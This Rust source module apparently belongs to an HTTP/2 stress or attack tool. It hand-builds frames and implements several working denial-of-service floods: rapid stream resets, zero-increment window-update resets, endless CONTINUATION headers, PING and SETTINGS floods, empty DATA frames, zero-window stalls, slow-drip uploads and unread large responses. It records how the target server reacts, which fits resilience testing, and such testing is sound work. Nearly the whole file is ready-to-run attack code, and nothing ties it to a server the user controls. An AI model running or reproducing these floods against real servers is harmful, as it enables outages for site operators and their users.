//! What is done over HTTP/2, frame by frame.

use std::{
    io,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf},
    net::TcpStream,
    sync::watch,
    time::{sleep, timeout},
};
use tokio_rustls::client::TlsStream;

use super::{How, Shared, wire};
use crate::{
    frames::{END_HEADERS, END_STREAM, Kind, PREFACE, frame, get, head, number},
    wait,
};

const HEADER_TABLE_SIZE: u16 = 1;
const INITIAL_WINDOW_SIZE: u16 = 4;
const WIDEST: u32 = (1 << 31) - 1;
/// What a connection's window is at first (RFC 9113 §6.9.2).
const WINDOW: u32 = 65_535;
/// Frames are written as many at a time as fit into so much.
const BATCH: usize = 16 * 1024;
/// How long who has sent everything waits for what comes of it.
const LINGER: Duration = Duration::from_secs(1);

/// A connection, and when it was begun.
struct Http2 {
    hear: Hears,
    write: WriteHalf<TlsStream<TcpStream>>,
}

impl Http2 {
    /// Begins one on which each stream has this window.
    async fn begin(shared: &Shared, window: u32) -> io::Result<Self> {
        let began = wait::now();
        let (read, mut write) = tokio::io::split(shared.connect_tls().await?);
        let setting = |id: u16, value: u32| [id.to_be_bytes().as_slice(), &value.to_be_bytes()].concat();
        // Without a table a status is in each head, and not somewhere before.
        let settings = [setting(HEADER_TABLE_SIZE, 0), setting(INITIAL_WINDOW_SIZE, window)].concat();
        let begin = [
            PREFACE.as_bytes(),
            &frame(Kind::Settings, 0, 0, &settings),
            &frame(Kind::WindowUpdate, 0, 0, &(WIDEST - WINDOW).to_be_bytes()),
        ];
        write.write_all(&begin.concat()).await?;
        write.flush().await?;
        Ok(Self { hear: Hears { read, began, window: Arc::new(AtomicU64::new(WINDOW.into())) }, write })
    }

    /// Sends what there is, and hears meanwhile what comes of it.
    async fn flood(self, shared: &Shared, first: Vec<u8>, piece: impl Fn(u32) -> Vec<u8>) -> How {
        let Self { mut hear, mut write } = self;
        let send = async {
            let mut batch = first;
            for count in 0..shared.force.each as u32 {
                batch.extend(piece(count));
                if batch.len() >= BATCH {
                    write.write_all(&batch).await?;
                    write.flush().await?;
                    batch.clear();
                    tokio::task::yield_now().await;
                }
            }
            write.write_all(&batch).await?;
            write.flush().await
        };
        let sent = async {
            if send.await.is_err() {
                // Why, is heard.
                std::future::pending::<()>().await;
            }
            sleep(LINGER).await;
        };
        tokio::select! {
            how = hear.until_the_end(shared) => how,
            () = sent => How::Taken,
        }
    }
}

/// What comes on a connection.
struct Hears {
    read: ReadHalf<TlsStream<TcpStream>>,
    began: Instant,
    /// What may be sent of content in all.
    window: Arc<AtomicU64>,
}

impl Hears {
    /// Notes answers and resets until the connection ends, and how it does.
    async fn until_the_end(&mut self, shared: &Shared) -> How {
        loop {
            match self.next(shared).await {
                Ok(None) => {}
                Ok(Some(how)) => return how,
                Err(error) => return wire::end(&error),
            }
        }
    }

    async fn next(&mut self, shared: &Shared) -> io::Result<Option<How>> {
        let mut header = [0; 9];
        self.read.read_exact(&mut header).await?;
        let mut payload = vec![0; number(&header[..3]) as usize];
        self.read.read_exact(&mut payload).await?;
        let word = |at: usize| payload.get(at..at + 4).map_or(0, number);
        let is = |kind: Kind| header[3] == kind as u8;
        if is(Kind::Headers) {
            if let Some(status) = status(&payload) {
                shared.note(How::Answered(status), self.began);
            }
        } else if is(Kind::ResetStream) {
            shared.note(How::StreamReset(word(0)), self.began);
        } else if is(Kind::WindowUpdate) && number(&header[5..]) == 0 {
            self.window.fetch_add(word(0).into(), Ordering::Relaxed);
        } else if is(Kind::GoAway) {
            return Ok(Some(How::GoAway(word(4))));
        }
        Ok(None)
    }
}

/// The status at the begin of a head: one of the static table's, or a literal (RFC 7541 §6).
fn status(block: &[u8]) -> Option<u16> {
    // The table's size may be told first.
    let block = &block[block.iter().position(|octet| octet >> 5 != 1)?..];
    const INDEXED: [u16; 7] = [200, 204, 206, 304, 400, 404, 500];
    let (first, rest) = block.split_first()?;
    if let Some(status) = first.checked_sub(0x88).and_then(|index| INDEXED.get(usize::from(index))) {
        return Some(*status);
    }
    let (length, text) = rest.split_first()?;
    let octets = text.get(..usize::from(length & 0x7f))?;
    if length & 0x80 == 0 {
        return std::str::from_utf8(octets).ok()?.parse().ok();
    }
    // Digits of Huffman's code (appendix B): 0, 1 and 2 in five bits, the others in six.
    let mut bits = octets.iter().fold(0_u32, |bits, octet| bits << 8 | u32::from(*octet));
    bits <<= 32_usize.checked_sub(8 * octets.len())?;
    let mut status = 0;
    for _ in 0..3 {
        let (digit, length) = match bits >> 27 {
            digit @ 0..=2 => (digit, 5),
            _ => ((bits >> 26).checked_sub(0b01_1001)? + 3, 6),
        };
        status = status * 10 + u16::try_from(digit).ok()?;
        bits <<= length;
    }
    Some(status)
}

/// The stream that a client begins after so many.
fn stream(count: u32) -> u32 {
    2 * count + 1
}

fn asks(count: u32, path: &str) -> Vec<u8> {
    frame(Kind::Headers, END_HEADERS | END_STREAM, stream(count), &head(&get(path)))
}

fn posts(count: u32) -> Vec<u8> {
    let mut fields = get("/upload");
    fields[0] = (":method", "POST");
    fields.push(("content-length", "10000000"));
    frame(Kind::Headers, END_HEADERS, stream(count), &head(&fields))
}

pub(super) async fn rapid_resets(shared: &Shared) -> How {
    let Ok(connection) = Http2::begin(shared, WIDEST).await else { return How::Refused };
    let cancel = 8_u32.to_be_bytes();
    let piece = |count| [asks(count, "/page"), frame(Kind::ResetStream, 0, stream(count), &cancel)].concat();
    connection.flood(shared, Vec::new(), piece).await
}

pub(super) async fn made_resets(shared: &Shared) -> How {
    let Ok(connection) = Http2::begin(shared, WIDEST).await else { return How::Refused };
    let nothing = 0_u32.to_be_bytes();
    let piece =
        |count| [asks(count, "/page"), frame(Kind::WindowUpdate, 0, stream(count), &nothing)].concat();
    connection.flood(shared, Vec::new(), piece).await
}

pub(super) async fn endless_head(shared: &Shared) -> How {
    let Ok(connection) = Http2::begin(shared, WIDEST).await else { return How::Refused };
    let first = frame(Kind::Headers, END_STREAM, stream(0), &head(&get("/page")));
    let more = frame(Kind::Continuation, 0, stream(0), &head(&[("x-more", &"x".repeat(1_000))]));
    connection.flood(shared, first, |_| more.clone()).await
}

pub(super) async fn pings(shared: &Shared) -> How {
    let Ok(connection) = Http2::begin(shared, WIDEST).await else { return How::Refused };
    let both = [frame(Kind::Ping, 0, 0, &[0; 8]), frame(Kind::Settings, 0, 0, &[])].concat();
    connection.flood(shared, Vec::new(), |_| both.clone()).await
}

pub(super) async fn empty_data(shared: &Shared) -> How {
    let Ok(connection) = Http2::begin(shared, WIDEST).await else { return How::Refused };
    let nothing = frame(Kind::Data, 0, stream(0), &[]);
    connection.flood(shared, posts(0), |_| nothing.clone()).await
}

/// Asks on as many streams, and opens no window.
pub(super) async fn closed_windows(shared: &Shared) -> How {
    let Ok(Http2 { mut hear, mut write }) = Http2::begin(shared, 0).await else { return How::Refused };
    let all: Vec<u8> = (0..shared.force.each as u32).flat_map(|count| asks(count, "/page")).collect();
    let _ = write.write_all(&all).await;
    let _ = write.flush().await;
    hear.until_the_end(shared).await
}

/// Sends a piece on each of as many streams after each pause, as far as the connection's window goes.
pub(super) async fn slow_uploads(shared: &Shared) -> How {
    const PIECE: u64 = 1_200;
    let Ok(Http2 { mut hear, mut write }) = Http2::begin(shared, WIDEST).await else { return How::Refused };
    let streams = shared.force.each as u32;
    let all: Vec<u8> = (0..streams).flat_map(posts).collect();
    let _ = write.write_all(&all).await;
    let window = Arc::clone(&hear.window);
    let drip = async {
        let mut sent = 0;
        loop {
            let _ = write.flush().await;
            sleep(shared.force.pace).await;
            for count in 0..streams {
                if sent + PIECE > window.load(Ordering::Relaxed) {
                    break;
                }
                sent += PIECE;
                let piece = frame(Kind::Data, 0, stream(count), &[b'x'; PIECE as usize]);
                // Why it is not taken, is heard.
                let _ = write.write_all(&piece).await;
            }
        }
    };
    tokio::select! {
        how = hear.until_the_end(shared) => how,
        how = drip => how,
    }
}

/// Asks on as many streams and reads nothing until the attack is over. Now and then it writes, and so learns of a reset.
pub(super) async fn unread_answers(shared: &Shared, stop: &mut watch::Receiver<bool>) -> How {
    let Ok(Http2 { mut hear, mut write }) = Http2::begin(shared, WIDEST).await else { return How::Refused };
    let all: Vec<u8> = (0..shared.force.each as u32).flat_map(|count| asks(count, "/large")).collect();
    let _ = write.write_all(&all).await;
    let ping = frame(Kind::Ping, 0, 0, &[0; 8]);
    loop {
        if write.write_all(&ping).await.is_err() || write.flush().await.is_err() {
            return How::Reset;
        }
        tokio::select! {
            () = sleep(shared.force.pace) => {}
            _ = stop.wait_for(|stop| *stop) => break,
        }
    }
    // Whoever has closed has sent no more than buffers of the system hold: that is read in no time.
    timeout(LINGER, hear.until_the_end(shared)).await.unwrap_or(How::Held)
}

#[cfg(test)]
mod tests {
    use super::status;

    #[test]
    fn a_status_is_read_however_it_is_written() {
        assert_eq!(status(&[0x88, 0x61]), Some(200));
        assert_eq!(status(&[0x20, 0x8d]), Some(404), "after the table's size");
        assert_eq!(status(b"\x48\x03307\x61"), Some(307));
        // RFC 7541 appendix C.6.
        assert_eq!(status(&[0x48, 0x82, 0x64, 0x02, 0x58]), Some(302));
        assert_eq!(status(&[0x08, 0x83, 0x6c, 0x0c, 0xff]), Some(503));
        assert_eq!(status(&[]), None);
    }
}
